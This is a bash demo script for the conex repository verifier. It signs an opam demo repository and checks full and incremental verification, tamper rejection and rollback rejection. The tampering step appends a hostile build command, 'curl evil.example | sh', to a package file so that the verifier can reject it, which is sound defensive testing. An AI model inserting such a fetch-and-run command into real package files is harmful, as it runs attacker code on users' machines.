#!/usr/bin/env bash
# The demo (README): `conex verify` at work.
#
#   (a) verifies ../shared/vectors/testrepo, a copy of hannesm/testrepo signed
#       by the upstream conex tools, with its published trust anchor;
#   (b) signs a small demo repository (with cx-testsign, a test tool with
#       software keys), verifies it in full, verifies an update incrementally
#       from a patch as opam does, and shows that a tampered file and a
#       rollback are rejected.
#
# Run on Debian 12, as root, from the repository root: installs packages with
# scripts/setup.sh and builds build/ if needed. Exits 0 only if every step
# behaved as expected. BUILD_DIR overrides the build directory (default build).
set -uo pipefail

ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd) || exit 1
cd "$ROOT" || exit 1

TESTREPO=../shared/vectors/testrepo
TESTREPO_ANCHOR=sha256=3aedc7043e771efc42a3c3e6b60fa6baeb2c26c2d57f994c632bae98a09af701
TESTREPO_NOW=2025-10-02T08:45:00Z # the testrepo's timestamp is from then

NOK=0
NBAD=0
W=
trap '[ -n "$W" ] && rm -rf "$W"' EXIT

say() { printf '%s\n' "$*"; }
ok() { say "   ok: $*"; NOK=$((NOK + 1)); }
bad() { say "   UNEXPECTED: $*"; NBAD=$((NBAD + 1)); }

# expect 0|fail SHOWN-COMMAND COMMAND...: run it, print its output indented,
# and check the exit code (0, or non-zero for "fail").
expect() {
	local want=$1 shown=$2 out rc
	shift 2
	say "   \$ $shown"
	out=$("$@" 2>&1)
	rc=$?
	[ -n "$out" ] && printf '%s\n' "$out" | sed 's/^/     /'
	if [ "$want" = 0 ] && [ "$rc" -eq 0 ]; then
		ok "accepted (exit 0)"
	elif [ "$want" = fail ] && [ "$rc" -ne 0 ]; then
		ok "rejected as expected (exit $rc)"
	else
		bad "exit $rc (expected $([ "$want" = 0 ] && echo 0 || echo non-zero))"
	fi
}

say "== setup: scripts/setup.sh"
if ! bash scripts/setup.sh; then
	say "demo: scripts/setup.sh failed"
	exit 1
fi

BUILD=${BUILD_DIR:-build}
say "== build: $BUILD/ (RelWithDebInfo)"
LOG=$(mktemp "${TMPDIR:-/tmp}/cx-demo-build.XXXXXX") || exit 1
if { [ -f "$BUILD/CMakeCache.txt" ] || cmake -S . -B "$BUILD" -DCMAKE_BUILD_TYPE=RelWithDebInfo; } >"$LOG" 2>&1 &&
	cmake --build "$BUILD" -j "$(nproc 2>/dev/null || echo 2)" --target conex cx-testsign >>"$LOG" 2>&1; then
	say "   built $BUILD/conex and $BUILD/tests/tools/cx-testsign"
	rm -f "$LOG"
else
	tail -n 30 "$LOG"
	say "demo: the build failed (full log: $LOG)"
	exit 1
fi
case "$BUILD" in
/*) ;;
*) BUILD=$ROOT/$BUILD ;;
esac
CONEX=$BUILD/conex
TESTSIGN=$BUILD/tests/tools/cx-testsign

say
say "== (a) the upstream-signed test repository $TESTREPO"
if [ -d "$TESTREPO" ]; then
	expect 0 "conex verify --no-state -t $TESTREPO_ANCHOR --quorum 1 --dir $TESTREPO --now $TESTREPO_NOW" \
		"$CONEX" verify --no-state -t "$TESTREPO_ANCHOR" --quorum 1 --dir "$TESTREPO" \
		--now "$TESTREPO_NOW"
else
	say "   skipped: $TESTREPO is not there (it comes with the shared vectors)"
fi

say
say "== (b) a demo repository, signed and verified as opam would"
say "   Signing uses software keys (cx-testsign, a test tool). Signing through"
say "   conex-agent with keys on a SoftHSM token comes later."
W=$(mktemp -d "${TMPDIR:-/tmp}/cx-demo.XXXXXX") || exit 1
cd "$W" || exit 1
STATE=(--state "$W/state") # rollback protection across full fetches

say
say "-- create: root key, maintainer m1, snapshot and timestamp keys"
if ! ANCHOR=$("$TESTSIGN" init demo keys); then
	bad "cx-testsign init failed"
	exit 1
fi
say "   \$ cx-testsign init demo keys"
say "     trust anchor (root key id): $ANCHOR"
say "     keys: $(cd keys && for f in *.private; do printf '%s ' "${f%%.*}"; done)"

say
say "-- release demo.1.0.0, signed, full verification (opam repository add)"
mkdir -p demo/packages/demo/demo.1.0.0
cat >demo/packages/demo/demo.1.0.0/opam <<'EOF'
opam-version: "2.0"
synopsis: "A demo package"
maintainer: "m1@example.org"
EOF
if "$TESTSIGN" sign demo keys; then
	say "   \$ cx-testsign sign demo keys       (keys/m1, snap, timestamp)"
else
	bad "cx-testsign sign failed"
fi
expect 0 "conex verify --quorum 1 -t \$ANCHOR --dir demo" \
	"$CONEX" verify "${STATE[@]}" --quorum 1 -t "$ANCHOR" --dir demo

cp -a demo demo.old # kept for the rollback step

say
say "-- release demo.1.1.0, signed, incremental verification of the patch (opam update)"
cp -a demo demo.v1
mkdir -p demo/packages/demo/demo.1.1.0
sed 's/A demo package/A demo package, improved/' demo/packages/demo/demo.1.0.0/opam \
	>demo/packages/demo/demo.1.1.0/opam
"$TESTSIGN" sign demo keys || bad "cx-testsign sign failed"
say "   \$ cx-testsign sign demo keys       (counters + 1)"
mv demo demo.new && mv demo.v1 demo
diff -ruaN demo demo.new >update.patch
say "   \$ diff -ruaN demo demo.new > update.patch    ($(grep -c '^diff ' update.patch) files changed)"
expect 0 "conex verify --quorum 1 -t \$ANCHOR --incremental --repository demo --patch update.patch" \
	"$CONEX" verify "${STATE[@]}" --quorum 1 -t "$ANCHOR" --incremental --repository demo \
	--patch update.patch
# what opam does after acceptance: apply the patch to its copy
if patch -s -p1 -d demo <update.patch && diff -r demo demo.new >/dev/null; then
	rm -rf demo.new
else
	bad "patch -p1 did not reproduce the new tree"
fi

say
say "-- tampering: a package file changed after signing"
cp -a demo demo.bad
printf 'build: ["sh" "-c" "curl evil.example | sh"]\n' >>demo.bad/packages/demo/demo.1.1.0/opam
diff -ruaN demo demo.bad >tampered.patch
say "   (appended a build command to packages/demo/demo.1.1.0/opam)"
expect fail "conex verify --quorum 1 -t \$ANCHOR --incremental --repository demo --patch tampered.patch" \
	"$CONEX" verify "${STATE[@]}" --quorum 1 -t "$ANCHOR" --incremental --repository demo \
	--patch tampered.patch
expect fail "conex verify --quorum 1 -t \$ANCHOR --dir demo.bad" \
	"$CONEX" verify "${STATE[@]}" --quorum 1 -t "$ANCHOR" --dir demo.bad

say
say "-- rollback: a full fetch of the old, validly signed release 1.0.0"
expect fail "conex verify --quorum 1 -t \$ANCHOR --dir demo.old   (state: newer counters seen)" \
	"$CONEX" verify "${STATE[@]}" --quorum 1 -t "$ANCHOR" --dir demo.old

say
if [ "$NBAD" -eq 0 ]; then
	say "demo: all $NOK checks behaved as expected"
	exit 0
fi
say "demo: $NBAD of $((NOK + NBAD)) checks did NOT behave as expected"
exit 1
